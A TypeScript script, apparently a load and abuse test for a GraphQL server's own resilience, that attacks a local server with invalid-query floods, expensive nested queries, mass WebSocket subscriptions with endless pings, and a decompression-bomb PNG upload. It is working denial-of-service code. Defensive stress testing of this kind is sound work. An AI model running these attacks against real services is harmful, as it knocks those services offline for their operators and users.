import { constants, setPriority } from 'node:os';
import { deflateSync, crc32 } from 'node:zlib';
import { WebSocket } from 'ws';
import { LocalClient } from './local-client.ts';

/** Address of the hostile visitor and person, a network of their own. */
const ADDRESS = '127.0.66.6';
const SOCKETS = 100;
const SUBSCRIPTIONS = 30;

/** Documents that parse and fail in validation, each another one: nothing remembered of one helps with the next. */
let nth = 0;
const faulty = () => {
  nth += 1;
  const fields = Array.from({ length: 60 }, (_, index) => `f${index}_${nth}: nothing${nth} { id }`);
  return JSON.stringify({ query: `{ viewer { id ${fields.join(' ')} } }` });
};

/** A query that asks as much of the database as one may. */
const dear = () => {
  nth += 1;
  const near = `{ latitude: ${49.5 + (nth % 100) / 1000}, longitude: 6.1 }`;
  const favors = `favors(near: ${near}, withinKm: 100, first: 50) { edges { node { id title poster { id postedFavors(first: 20) { edges { node { id title } } } } } } }`;
  return JSON.stringify({ query: `{ ${favors} }` });
};

/** A PNG of 39,000,000 × 1 pixels, which takes kilobytes on the line and gigabytes where it is drawn. */
function wide(): Buffer {
  const width = 39_000_000;
  const chunk = (type: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(1, 4);
  header[8] = 1;
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1 + Math.ceil(width / 8)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Opens a socket that subscribes as often as it may and pings without end; a closed one is opened again. */
function pingFor(url: string, isOver: () => boolean): void {
  if (isOver()) return;
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
    localAddress: ADDRESS,
  });
  const send = (message: object) => socket.readyState === WebSocket.OPEN && socket.send(JSON.stringify(message));
  socket.on('error', () => undefined);
  socket.on('open', () => send({ type: 'connection_init' }));
  socket.on('close', () => setTimeout(() => pingFor(url, isOver), 100));
  socket.on('message', () => {
    if (isOver()) return socket.terminate();
    send({ type: 'ping' });
  });
  socket.once('message', () => {
    for (let id = 0; id < SUBSCRIPTIONS; id += 1)
      send({ id: `${id}`, type: 'subscribe', payload: { query: 'subscription { favorAdded { id } }' } });
  });
}

/**
 * Attacks a server for some seconds as one visitor and one person of the same network do with programs: faulty
 * documents, dear queries, sockets, pictures and pings, all at the same time.
 * Arguments: URL of the server, cookie of the person, seconds; `ONLY=faulty` (dear, wide, sockets) does one of them.
 */
async function attack(url: string, cookie: string, seconds: number): Promise<void> {
  const end = Date.now() + seconds * 1_000;
  const isOver = () => Date.now() >= end;
  const picture = wide();
  const only = process.env.ONLY;
  const loops: [name: string, count: number, ask: (client: LocalClient) => Promise<unknown>][] = [
    ['faulty', 8, (client) => client.ask({ body: faulty() })],
    ['dear', 20, (client) => client.ask({ body: dear(), cookie })],
    ['wide', 4, (client) => client.ask({ path: '/api/photos', body: picture, cookie })],
  ];
  if (!only || only === 'sockets') for (let socket = 0; socket < SOCKETS; socket += 1) pingFor(url, isOver);
  await Promise.all(
    loops
      .filter(([name]) => !only || only === name)
      .flatMap(([, count, ask]) =>
        Array.from({ length: count }, async () => {
          const client = new LocalClient(url, ADDRESS);
          while (!isOver()) await ask(client);
          client.close();
        }),
      ),
  );
}

// An attacker has machines of their own; on this one they take what the server leaves.
setPriority(constants.priority.PRIORITY_LOW);
const [url, cookie, seconds] = process.argv.slice(2) as [string, string, string];
await attack(url, cookie, Number(seconds));
process.exit();
